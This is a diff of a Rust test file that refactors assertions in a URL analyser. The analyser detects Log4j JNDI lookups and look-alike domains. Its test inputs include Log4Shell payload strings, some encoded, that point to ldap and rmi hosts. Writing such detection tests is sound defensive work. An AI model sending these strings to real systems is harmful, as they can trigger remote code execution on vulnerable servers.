@@ -223,20 +223,16 @@ fn a_log4j_lookup_leads_to_its_directory() {
     let url = "https://example.com/${jndi:ldap://paypa1.com/x}";
     let (a, d) = lookup(url);
     assert_eq!(d.expect("the directory").via, "path → Log4j JNDI lookup");
-    let imitation = a
-        .warnings
-        .iter()
-        .find(|w| w.code == WarningCode::LookalikeDomain)
-        .expect("a look-alike directory");
-    assert_eq!(imitation.spans, [Span::new(39, 40)]);
+    let imitation_spans = |a: &crate::analysis::Analysis| {
+        a.warnings
+            .iter()
+            .find(|w| w.code == WarningCode::LookalikeDomain)
+            .map(|w| w.spans.clone())
+    };
+    assert_eq!(imitation_spans(&a), Some(vec![Span::new(39, 40)]));
     // In capitals, the name's bytes marked all the same.
     let (a, _) = lookup("https://example.com/?q=${JNDI:ldap://paypa1.com/}");
-    let imitation = a
-        .warnings
-        .iter()
-        .find(|w| w.code == WarningCode::LookalikeDomain)
-        .expect("a look-alike directory");
-    assert_eq!(imitation.spans, [Span::new(42, 43)]);
+    assert_eq!(imitation_spans(&a), Some(vec![Span::new(42, 43)]));
     // Decoded, the whole component marked; and spelled by nested lookups,
     // the whole lookup.
     let (_, d) = lookup("https://example.com/?q=%24%7Bjndi%3Armi%3A%2F%2F10.0.0.5%2Fa%7D");
